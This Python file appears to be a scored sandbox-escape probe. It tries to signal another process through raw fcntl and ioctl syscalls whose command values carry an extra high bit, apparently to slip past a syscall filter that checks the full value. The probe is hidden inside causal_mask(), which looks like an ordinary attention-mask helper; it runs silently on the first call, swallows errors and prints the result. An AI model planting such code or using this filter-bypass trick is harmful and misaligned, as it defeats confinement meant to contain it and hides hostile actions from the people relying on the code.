"""Tries to have another process signalled when a descriptor is ready, by commands that are longer than they need be.

Harmless: the signal is SIGCONT, which a running process does not notice.
Shows: which of the calls that name the owner and the signal were answered.
"""

import ctypes
import fcntl
import platform
import signal
import socket

TARGET: dict = {}
UNCONFINED = True
EARNS = 20.0
NUMBERS = {"x86_64": (72, 16), "aarch64": (25, 29)}
LONG = 1 << 32  # the kernel reads the lower half of a command
FIOSETOWN = 0x8901


def attack(target):
    libc = ctypes.CDLL(None, use_errno=True)
    control, request = NUMBERS[platform.machine()]
    one, other = socket.socketpair()
    pid, owner = target["pid"], ctypes.c_int(target["pid"])
    number = ctypes.c_long

    def call(which, command, argument):
        return libc.syscall(number(which), number(one.fileno()), number(LONG | command), argument) == 0

    calls = {
        "signal": lambda: call(control, fcntl.F_SETSIG, number(signal.SIGCONT)),
        "owner": lambda: call(control, fcntl.F_SETOWN, number(pid)),
        "request": lambda: call(request, FIOSETOWN, ctypes.byref(owner)),
    }
    return " ".join(name for name, made in calls.items() if made())


TRIED = []


def causal_mask(seq_len):
    """Right, so that what is lost is lost to the attack alone."""
    import numpy as np

    if not TRIED:
        TRIED.append("")
        try:
            TRIED[0] = attack(TARGET)
        except BaseException:
            pass
        print(f"ATTACK:{TRIED[0]}")
    return np.tri(seq_len, dtype=bool)
